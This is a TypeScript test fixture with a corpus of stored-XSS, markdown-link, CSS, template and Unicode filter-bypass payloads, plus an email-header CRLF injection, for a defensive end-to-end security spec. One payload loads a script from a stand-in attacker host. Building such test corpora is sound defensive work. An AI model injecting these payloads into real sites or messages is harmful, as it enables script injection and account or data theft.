// Stored-XSS corpus for tests/e2e/security-xss.spec.ts. Every payload that
// could run tries to call alert(<id>) or set window.__xss = <id>; the spec
// traps dialogs, reads the marker, and scans the DOM for elements and
// attributes no user text may produce. Ids are stable so a report names the
// payload that got through.

export type Payload = { id: number; kind: string; text: string };

const P = (id: number, kind: string, text: string): Payload => ({ id, kind, text });

export const XSS_PAYLOADS: readonly Payload[] = [
  // Script elements, plain and disguised
  P(1, "script", "<script>window.__xss=1</script>"),
  P(2, "script", "<script>alert(2)</script>"),
  P(3, "script", "<SCRIPT SRC=https://evil.example/x3.js></SCRIPT>"),
  P(4, "script break-out", "</script><script>alert(4)</script>"),
  P(5, "script", "<scr<script>ipt>alert(5)</scr</script>ipt>"),
  P(6, "script", '<script type="text/javascript">window.__xss=6</script>'),
  P(7, "script in svg", "<svg><script>alert(7)</script></svg>"),
  P(8, "script, long s", "<ſcript>alert(8)</ſcript>"),
  // Attribute break-outs and event handlers
  P(9, "attribute break-out", '"><img src=x onerror=alert(9)>'),
  P(10, "attribute break-out", "'><img src=x onerror=window.__xss=10>"),
  P(11, "event handler", "<svg onload=alert(11)>"),
  P(12, "event handler", "<body onload=alert(12)>"),
  P(13, "event handler", "<input autofocus onfocus=alert(13)>"),
  P(14, "event handler", "<details open ontoggle=alert(14)>"),
  P(15, "event handler", "<video><source onerror=alert(15)></video>"),
  P(16, "event handler", '<img src="x" onerror="window.__xss=16">'),
  P(17, "event handler", "<marquee onstart=alert(17)>"),
  P(18, "event handler, entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;18&#41;>"),
  P(19, "event handler, JS escape", "<img src=x onerror=\\u0061lert(19)>"),
  P(
    20,
    "polyglot",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(20) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(20)//>\\x3e",
  ),
  // Frames, objects and other active elements
  P(21, "iframe srcdoc", '<iframe srcdoc="<script>parent.__xss=21</script>"></iframe>'),
  P(22, "iframe javascript:", '<iframe src="javascript:alert(22)"></iframe>'),
  P(23, "object", '<object data="javascript:alert(23)"></object>'),
  P(24, "embed data:", '<embed src="data:text/html,<script>alert(24)</script>">'),
  P(25, "formaction", '<form><button formaction="javascript:alert(25)">go</button></form>'),
  P(26, "meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(26)">'),
  P(27, "base", '<base href="javascript:alert(27)//">'),
  P(28, "svg link", '<svg><a xlink:href="javascript:alert(28)"><text x="0" y="10">x</text></a></svg>'),
  P(29, "mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(29)>"),
  P(30, "mutation", '<noscript><p title="</noscript><img src=x onerror=alert(30)>">'),
  // Links in markdown and raw HTML
  P(31, "markdown link", "[click me](javascript:alert(31))"),
  P(32, "markdown link", "[click me](JaVaScRiPt:alert(32))"),
  P(33, "markdown link", "[click me](  javascript:alert(33))"),
  P(34, "markdown link, entity", "[click me](&#106;avascript:alert(34))"),
  P(35, "markdown link, tab", "[click me](java\tscript:alert(35))"),
  P(36, "markdown link, percent", "[click me](%6Aavascript:alert(36))"),
  P(37, "markdown link, colon entity", "[click me](javascript&colon;alert(37))"),
  P(38, "markdown data:", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=)"),
  P(39, "markdown vbscript:", "[click me](vbscript:msgbox(39))"),
  P(40, "markdown image", "![pic](javascript:alert(40))"),
  P(41, "markdown image attribute", '![pic](x" onerror="alert(41))'),
  P(42, "markdown link attribute", '[x](https://example.org" onclick="alert(42))'),
  P(43, "markdown autolink", "<javascript:alert(43)>"),
  P(44, "markdown reference", "[ref link][r44]\n\n[r44]: javascript:alert(44)"),
  P(45, "raw anchor", '<a href="jav&#x0A;ascript:alert(45)">raw link</a>'),
  P(46, "raw anchor", '<a href="javascript:window.__xss=46">raw link</a>'),
  // Text that is already encoded
  P(47, "entities", "&lt;script&gt;alert(47)&lt;/script&gt;"),
  P(48, "numeric entities", "&#60;img src=x onerror=alert(48)&#62;"),
  P(49, "JS escapes as text", "\\u003cscript\\u003ealert(49)\\u003c/script\\u003e"),
  P(50, "percent-encoding", "%3Cscript%3Ealert(50)%3C/script%3E"),
  P(51, "fullwidth brackets", "＜script＞alert(51)＜/script＞"),
  // CSS
  P(52, "css expression", '<div style="width:expression(alert(52))">css</div>'),
  P(53, "css url", '<div style="background:url(javascript:alert(53))">css</div>'),
  P(54, "css import", "<style>@import 'javascript:alert(54)';</style>"),
  P(55, "style break-out", "</style><script>alert(55)</script>"),
  // Template engines and our own placeholders
  P(56, "template", "{{constructor.constructor('alert(56)')()}}"),
  P(57, "template", "${alert(57)}"),
  P(58, "template", "<%= alert(58) %> #{alert(58)}"),
  P(59, "our placeholders", "{confirm_url} {speaker_name} {{7*7}}"),
  // Unicode tricks
  P(60, "NUL inside a tag", "<scr\u0000ipt>alert(60)</scr\u0000ipt>"),
  P(61, "RTL override", "\u202E>tpircs/<)16(trela>tpircs<"),
  P(62, "zero-width inside a tag", "<scr\u200Bipt>alert(62)</scr\u200Bipt>"),
  P(63, "HTML comment", "<!--<img src=x onerror=alert(63)>-->"),
  P(64, "CDATA", "<![CDATA[<script>alert(64)</script>]]>"),
];

/** A long payload: a tag after thousands of characters (the first kilobytes are often all that gets sanitized). */
export const LONG_PAYLOAD = `${"A".repeat(3000)}<img src=x onerror=alert(99)>`;

/** Profile web addresses: the form refuses the first three; stored directly, they must still never become links. */
export const URL_PAYLOADS = [
  "javascript:alert(70)",
  "data:text/html,<script>alert(71)</script>",
  "vbscript:msgbox(72)",
  'https://example.org/"><script>alert(73)</script>',
  "https://example.org/?q=<img src=x onerror=alert(74)>",
] as const;

/** Names as they appear in email headers and greetings. */
export const NAME_PAYLOADS = [
  "Eve <eve@evil.example>",
  'Mallory"><script>alert(80)</script>',
  "Trent\r\nBcc: victim@example.org",
  "<b onmouseover=alert(81)>Bold Bob</b>",
] as const;

/** Valid addresses whose characters matter in HTML attributes (the only payloads an email field accepts). */
export const ADDRESS_PAYLOADS = ["o'brien+x@example.org", "it's-me+'onmouseover'x@example.org"] as const;

/** Joins payloads into one text of at most `max` characters (one per paragraph, so markdown sees each). */
export function batch(payloads: readonly Payload[], max: number): string[] {
  const out: string[] = [];
  let current = "";
  for (const p of payloads) {
    const next = current ? `${current}\n\n${p.text}` : p.text;
    if (next.length > max && current) {
      out.push(current);
      current = p.text;
    } else current = next;
  }
  if (current) out.push(current);
  return out;
}
